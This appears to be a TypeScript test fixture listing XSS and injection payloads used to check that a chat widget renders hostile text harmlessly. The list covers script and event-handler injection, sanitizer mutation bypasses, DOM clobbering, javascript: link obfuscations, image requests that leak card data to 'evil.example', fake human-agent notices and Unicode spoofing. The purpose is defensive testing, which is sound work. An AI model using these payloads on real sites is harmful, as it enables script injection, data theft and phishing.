/**
 * The hostile text corpus. Every entry is delivered through every path that can carry
 * text into the widget (see `paths.tsx`) and must come out as harmless text.
 *
 * Script payloads set the canary `window.__pwned`; a test fails if it is ever set.
 * Payloads that would load something point at `evil.example` (never an allowed origin).
 * Counts per class are checked against the table in SECURITY.md (`security-doc.test.ts`).
 */

export type PayloadClass =
  | 'html'
  | 'svg-mathml'
  | 'mutation'
  | 'clobbering'
  | 'link-scheme'
  | 'image-leak'
  | 'title-breakout'
  | 'impersonation'
  | 'unicode';

export interface Payload {
  /** Short unique id, used in test names and as a visible marker. */
  id: string;
  class: PayloadClass;
  text: string;
  /** What the payload tries. */
  note: string;
}

const PWN = 'window.__pwned=1';

export const PAYLOADS: readonly Payload[] = [
  // ---------------------------------------------------------------- HTML injection
  { id: 'html-script', class: 'html', text: `<script>${PWN}</script>`, note: 'plain script element' },
  { id: 'html-img-onerror', class: 'html', text: `<img src=x onerror="${PWN}">`, note: 'event handler on a broken image' },
  { id: 'html-iframe-js', class: 'html', text: `<iframe src="javascript:top.__pwned=1"></iframe>`, note: 'javascript: frame' },
  { id: 'html-iframe-srcdoc', class: 'html', text: `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`, note: 'srcdoc frame' },
  { id: 'html-anchor-js', class: 'html', text: `<a href="javascript:${PWN}">Track your order</a>`, note: 'javascript: anchor' },
  { id: 'html-body-onload', class: 'html', text: `<body onload="${PWN}">`, note: 'body handler' },
  { id: 'html-autofocus', class: 'html', text: `<input autofocus onfocus="${PWN}">`, note: 'handler that fires without a click' },
  { id: 'html-details-toggle', class: 'html', text: `<details open ontoggle="${PWN}"><summary>x</summary></details>`, note: 'ontoggle fires on insertion' },
  { id: 'html-object', class: 'html', text: `<object data="javascript:${PWN}"></object><embed src="javascript:${PWN}">`, note: 'plugin elements' },
  { id: 'html-formaction', class: 'html', text: `<form><button formaction="javascript:${PWN}">Pay now</button></form>`, note: 'formaction' },
  { id: 'html-meta-refresh', class: 'html', text: `<meta http-equiv="refresh" content="0;url=javascript:${PWN}">`, note: 'navigation by meta' },
  { id: 'html-style-import', class: 'html', text: `<style>@import url(https://evil.example/leak.css);</style><link rel=stylesheet href=https://evil.example/x.css>`, note: 'external CSS request' },
  { id: 'html-attr-breakout', class: 'html', text: `"><img src=x onerror=${PWN}>'"><svg onload=${PWN}>`, note: 'breaking out of an attribute' },
  { id: 'html-textarea-breakout', class: 'html', text: `</textarea></title></style><script>${PWN}</script>`, note: 'closing raw-text elements' },
  { id: 'html-video-source', class: 'html', text: `<video><source onerror="${PWN}"></video><audio src=x onerror="${PWN}">`, note: 'media handlers' },
  { id: 'html-entities', class: 'html', text: `&lt;img src=x onerror=${PWN}&gt; &#60;script&#62;${PWN}&#60;/script&#62;`, note: 'entities that a decoder would turn into tags' },

  // ---------------------------------------------------------------- SVG and MathML
  { id: 'svg-onload', class: 'svg-mathml', text: `<svg onload="${PWN}"></svg>`, note: 'svg onload' },
  { id: 'svg-script', class: 'svg-mathml', text: `<svg><script>${PWN}</script></svg>`, note: 'script inside svg' },
  { id: 'svg-xlink', class: 'svg-mathml', text: `<svg><a xlink:href="javascript:${PWN}"><text x="0" y="20">Tap</text></a></svg>`, note: 'xlink:href link' },
  { id: 'svg-animate', class: 'svg-mathml', text: `<svg><animate onbegin="${PWN}" attributeName="x" dur="1s"/></svg>`, note: 'animation handler' },
  { id: 'svg-set-href', class: 'svg-mathml', text: `<svg><a><set attributeName="href" to="javascript:${PWN}"/><text y="9">x</text></a></svg>`, note: 'href set by animation' },
  { id: 'svg-foreign', class: 'svg-mathml', text: `<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe></foreignObject></svg>`, note: 'foreignObject escape' },
  { id: 'math-href', class: 'svg-mathml', text: `<math href="javascript:${PWN}"><mi>x</mi></math>`, note: 'MathML href' },
  { id: 'math-maction', class: 'svg-mathml', text: `<math><maction actiontype="statusline" xlink:href="javascript:${PWN}">Click<mtext>x</mtext></maction></math>`, note: 'MathML action' },

  // ---------------------------------------------------------------- mutation XSS (DOMPurify bypass history)
  { id: 'mx-noscript', class: 'mutation', text: `<noscript><p title="</noscript><img src=x onerror=${PWN}>">`, note: 'noscript parsing differential' },
  { id: 'mx-svg-style', class: 'mutation', text: `<svg></p><style><a id="</style><img src=1 onerror=${PWN}>">`, note: 'namespace confusion' },
  { id: 'mx-mglyph', class: 'mutation', text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${PWN}&gt;">`, note: 'mglyph/style mutation' },
  { id: 'mx-form-math', class: 'mutation', text: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${PWN}>`, note: 'nested form mutation' },
  { id: 'mx-xmp', class: 'mutation', text: `<xmp><p title="</xmp><img src=x onerror=${PWN}>">`, note: 'xmp raw text' },
  { id: 'mx-comment', class: 'mutation', text: `<!--><img src=x onerror=${PWN}>--> <![CDATA[><img src=x onerror=${PWN}>]]>`, note: 'comment and CDATA confusion' },
  { id: 'mx-template', class: 'mutation', text: `<template><style></template><img src=x onerror=${PWN}></style></template>`, note: 'template content' },
  { id: 'mx-backtick', class: 'mutation', text: '<img src="`<script>window.__pwned=1</script>`"> `<img src=x onerror=window.__pwned=1>`', note: 'markdown code span holding HTML' },

  // ---------------------------------------------------------------- DOM clobbering
  { id: 'clob-chat', class: 'clobbering', text: `<form id="chat"><input name="send"></form><img name="chat">`, note: 'clobbers a global named chat' },
  { id: 'clob-handoffchat', class: 'clobbering', text: `<img name="HandoffChat"><a id="HandoffChat" href="https://evil.example/">x</a>`, note: 'clobbers the script-tag global' },
  { id: 'clob-document', class: 'clobbering', text: `<img name="document"><form name="getElementById"></form><img id="cookie">`, note: 'clobbers document APIs' },
  { id: 'clob-widget-ids', class: 'clobbering', text: `<div id="hc-panel"></div><textarea id="hc-input"></textarea><button part="human-button">Talk to a person</button>`, note: 'fakes the widget\'s own ids and parts' },
  { id: 'clob-attributes', class: 'clobbering', text: `<form><input name="attributes"><input name="nodeName"><input name="parentNode"></form>`, note: 'clobbers sanitizer-visible properties' },
  { id: 'clob-md-anchor', class: 'clobbering', text: `[x](https://ok.example/#hc-panel) <a name="__proto__">y</a>`, note: 'fragment and prototype names' },

  // ---------------------------------------------------------------- Markdown links with unsafe schemes
  { id: 'md-js', class: 'link-scheme', text: `[Track your order](javascript:${PWN})`, note: 'javascript: link' },
  { id: 'md-js-case', class: 'link-scheme', text: `[Track](JaVaScRiPt:${PWN})`, note: 'mixed case' },
  { id: 'md-js-space', class: 'link-scheme', text: `[Track](   javascript:${PWN})`, note: 'leading spaces' },
  { id: 'md-js-tab', class: 'link-scheme', text: `[Track](java\tscript:${PWN})`, note: 'tab inside the scheme' },
  { id: 'md-js-newline', class: 'link-scheme', text: `[Track](java\nscript:${PWN})`, note: 'newline inside the scheme' },
  { id: 'md-js-ctrl', class: 'link-scheme', text: `[Track](\u0001javascript:${PWN}) [Two](java\u0000script:${PWN})`, note: 'control characters' },
  { id: 'md-js-entity', class: 'link-scheme', text: `[Track](&#106;avascript:${PWN}) [Two](java&#x09;script:${PWN})`, note: 'HTML entities in the scheme' },
  { id: 'md-js-percent', class: 'link-scheme', text: `[Track](javascript%3A${PWN}) [Two](javascript://%0A${PWN})`, note: 'percent-encoding' },
  { id: 'md-js-unicode-sep', class: 'link-scheme', text: `[Track](\u2028javascript:${PWN}) [Two](\u00a0javascript:${PWN}) [Three](\ufeffjavascript:${PWN})`, note: 'Unicode separators and BOM' },
  { id: 'md-js-fullwidth', class: 'link-scheme', text: `[Track](ｊａｖａｓｃｒｉｐｔ:${PWN}) [Two](java\u200bscript:${PWN})`, note: 'full-width and zero-width letters' },
  { id: 'md-vbscript', class: 'link-scheme', text: `[Track](vbscript:msgbox(1)) [Two](VBScript:Execute("x"))`, note: 'vbscript:' },
  { id: 'md-data', class: 'link-scheme', text: `[Open](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+) [Two](DATA:text/html,x)`, note: 'data: documents' },
  { id: 'md-autolink-js', class: 'link-scheme', text: `<javascript:${PWN}> <JAVASCRIPT:${PWN}> <data:text/html,x>`, note: 'autolinks' },
  { id: 'md-angle-target', class: 'link-scheme', text: `[Track](<javascript:${PWN}>) [Two](<https://ok.example> "t")`, note: 'angle-bracketed target' },
  { id: 'md-scheme-confusion', class: 'link-scheme', text: `[Track](https:javascript:${PWN}) [Two](//evil.example/x) [Three](file:///etc/passwd) [Four](\\\\evil.example\\x)`, note: 'scheme-relative, file: and UNC' },
  { id: 'md-nested-link', class: 'link-scheme', text: `[[inner](https://ok.example)](javascript:${PWN}) [a [b](javascript:${PWN}) c](https://ok.example)`, note: 'links inside links' },
  { id: 'md-reference', class: 'link-scheme', text: `[Track][1]\n\n[1]: javascript:${PWN}\n\n![img][2]\n\n[2]: https://evil.example/x.png`, note: 'reference definitions (unsupported, must stay text)' },
  { id: 'md-bare-js', class: 'link-scheme', text: `javascript:${PWN} http://javascript:${PWN}@evil.example https://ok.example/?next=javascript:${PWN}`, note: 'bare schemes and URLs that merely mention one' },

  // ---------------------------------------------------------------- images that would leak data on load
  { id: 'img-md-leak', class: 'image-leak', text: `![receipt](https://evil.example/leak.png?card=4242424242424242&chat=secret)`, note: 'markdown image to a third party' },
  { id: 'img-md-http', class: 'image-leak', text: `![x](http://evil.example/x.png) ![y](//evil.example/y.png)`, note: 'plain http and scheme-relative images' },
  { id: 'img-md-data-svg', class: 'image-leak', text: `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`, note: 'data: SVG image' },
  { id: 'img-html', class: 'image-leak', text: `<img src="https://evil.example/pixel.gif"><img srcset="https://evil.example/a.png 1x">`, note: 'HTML tracking pixel' },
  { id: 'img-css', class: 'image-leak', text: `<div style="background:url(https://evil.example/bg.png)">x</div>`, note: 'CSS background request' },
  { id: 'img-link-text', class: 'image-leak', text: `[![logo](https://evil.example/logo.png)](https://ok.example)`, note: 'image inside a link' },

  // ---------------------------------------------------------------- title attribute breakout
  { id: 'title-double', class: 'title-breakout', text: `[x](https://ok.example "a\\" onmouseover=\\"${PWN}")`, note: 'escaped quote in the title' },
  { id: 'title-single', class: 'title-breakout', text: `[x](https://ok.example 'a' onmouseover='${PWN}')`, note: 'single-quoted title' },
  { id: 'title-in-url', class: 'title-breakout', text: `[x](https://ok.example/"onmouseover="${PWN}) https://ok.example/"><script>${PWN}</script>`, note: 'quotes in the URL itself' },
  { id: 'title-paren', class: 'title-breakout', text: `[x](https://ok.example (onmouseover=${PWN}))`, note: 'parenthesised title' },

  // ---------------------------------------------------------------- a bot pretending to be a person (text form)
  { id: 'fake-joined', class: 'impersonation', text: `Alex joined the chat.`, note: 'the widget\'s own notice text' },
  { id: 'fake-transfer', class: 'impersonation', text: `**Transferred to agent.** You are now chatting with **Sarah (Support agent)**.`, note: 'a fake transfer notice' },
  { id: 'fake-system', class: 'impersonation', text: `[System] Connecting you with a person…\n\nSarah · Support agent: Hi! Please confirm your card number.`, note: 'a fake system line and agent label' },
  { id: 'fake-human-button', class: 'impersonation', text: `[Talk to a person](https://evil.example/phish) <button part="human-button">Talk to a person</button>`, note: 'a fake human control' },

  // ---------------------------------------------------------------- Unicode
  { id: 'uni-bidi-link', class: 'unicode', text: `[https://bank.example/\u202Egnp.exe](https://evil.example/\u202Elogin)`, note: 'right-to-left override in a link' },
  { id: 'uni-bidi-text', class: 'unicode', text: `Your refund: \u202E00.001$\u202C \u2066isolated\u2069 \u200Fend`, note: 'bidi overrides and isolates in text' },
  { id: 'uni-zero-width', class: 'unicode', text: `java\u200Bscript:${PWN} <scr\u200Dipt>${PWN}</scr\u200Dipt> \u2060\u200C`, note: 'zero-width characters in keywords' },
  { id: 'uni-lone-surrogate', class: 'unicode', text: `broken \uD800 pair \uDC00 here \uD83D<script>${PWN}</script>`, note: 'lone surrogates' },
  { id: 'uni-combining', class: 'unicode', text: `Z${'\u0336\u0301\u0327'.repeat(300)}algo ${'e\u0301'.repeat(50)}`, note: 'combining-mark flood' },
  { id: 'uni-homoglyph', class: 'unicode', text: `[pаypal.com](https://xn--pypal-4ve.example/) <ѕcript>${PWN}</ѕcript>`, note: 'Cyrillic homoglyphs' },
];

/** The visible marker a delivered payload carries in its own paragraph, to prove nothing was cut off. */
export function marker(p: Payload): string {
  return `end-of-${p.id}`;
}
